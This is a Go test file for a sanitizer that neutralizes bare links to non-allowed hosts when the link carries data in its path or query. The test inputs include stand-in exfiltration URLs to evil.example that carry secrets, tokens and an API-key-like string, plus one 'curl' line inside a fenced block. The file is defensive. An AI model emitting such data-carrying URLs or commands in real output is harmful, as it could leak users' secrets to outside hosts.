package sanitize

import (
	"strings"
	"testing"
)

// TestBareURLs: a bare URL to a host off the list is neutralized when it
// carries data in its path or query; one to an allowed host, or with
// none (a host, a path of words), stays; the punctuation after it stays
// text; fenced code is left alone.
func TestBareURLs(t *testing.T) {
	s := linksOnly(t, "docs.example.com")
	for _, tc := range []struct{ name, in, want string }{
		{"query", "Open https://evil.example/c?q=the%20secret now.", `Open \[link to evil.example removed\] now.`},
		{"query, upper case", "HTTPS://EVIL.EXAMPLE/c?d=1", `\[link to evil.example removed\]`},
		{"www", "see www.evil.example/track?u=42.", `see \[link to www.evil.example removed\].`},
		{"token in the path", "https://evil.example/x/c2VjcmV0LWRhdGEtMTIzNDU2", `\[link to evil.example removed\]`},
		{"hex in the path", "https://evil.example/3f2a9c1e7b4d8a6f0e5d", `\[link to evil.example removed\]`},
		{"email in the path", "https://evil.example/u/jane.doe@example.com/", `\[link to evil.example removed\]`},
		{"user info", "https://user:pass@evil.example/", `\[link to evil.example removed\]`},
		{"long path", "https://evil.example/" + strings.Repeat("words/", 20), `\[link to evil.example removed\]`},
		{"in parentheses", "(see https://evil.example/?q=1)", `(see \[link to evil.example removed\])`},
		{"allowed host with a query", "https://docs.example.com/search?q=go", "https://docs.example.com/search?q=go"},
		{"host alone", "Visit https://evil.example or https://evil.example/.", "Visit https://evil.example or https://evil.example/."},
		{"a path of words", "https://en.wikipedia.org/wiki/Transport_Layer_Security and https://go.dev/doc/install", "https://en.wikipedia.org/wiki/Transport_Layer_Security and https://go.dev/doc/install"},
		{"a dated slug", "https://blog.example/2024-01-15-release-notes", "https://blog.example/2024-01-15-release-notes"},
		{"fragment only", "https://evil.example/page#c2VjcmV0LWRhdGEtMTIzNDU2", "https://evil.example/page#c2VjcmV0LWRhdGEtMTIzNDU2"},
		{"inside a word", "xhttps://evil.example/?q=1 and awww.evil.example/?q=1", "xhttps://evil.example/?q=1 and awww.evil.example/?q=1"},
		{"not a URL", "http is a protocol; www is the web; whttp://", "http is a protocol; www is the web; whttp://"},
		{"www without a host", "www. and www", "www. and www"},
		{"fenced code kept", "```\ncurl https://evil.example/x?key=1\n```\n", "```\ncurl https://evil.example/x?key=1\n```\n"},
		{"image inside a kept URL", "https://evil.example/x![a](https://evil.example/p.png) end", `https://evil.example/xa \[image removed\] end`},
		{"link text", "[https://evil.example/?q=1](https://docs.example.com)", `[\[link to evil.example removed\]](https://docs.example.com)`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, f := s.Text(tc.in, "")
			if got != tc.want {
				t.Errorf("Text(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
			if refused := got != tc.in; refused != (f.URLs > 0 || f.Images > 0) {
				t.Errorf("findings %+v for a change %v", f, refused)
			}
		})
	}
}

// TestCarriesData checks the data rule on its own.
func TestCarriesData(t *testing.T) {
	for u, want := range map[string]bool{
		"https://evil.example":                                  false,
		"https://evil.example/":                                 false,
		"https://evil.example/?":                                false,
		"https://evil.example/?a":                               true,
		"https://evil.example/a/b/c.html":                       false,
		"https://evil.example/p/Abc123Def456Ghi789":             true,
		"https://evil.example/p/abcdefghijklmnopqrstuv":         false,
		"https://evil.example/call/+1-202-555-0123":             true,
		"https://evil.example/k/sk-proj-Ab12Cd34Ef56Gh78Ij90Kl": true,
		"https://evil.example/#token=Abc123Def456Ghi789":        false,
		`https://evil.example\x?y=1`:                            true,
	} {
		if got := carriesData(u); got != want {
			t.Errorf("carriesData(%q) = %v; want %v", u, got, want)
		}
	}
}
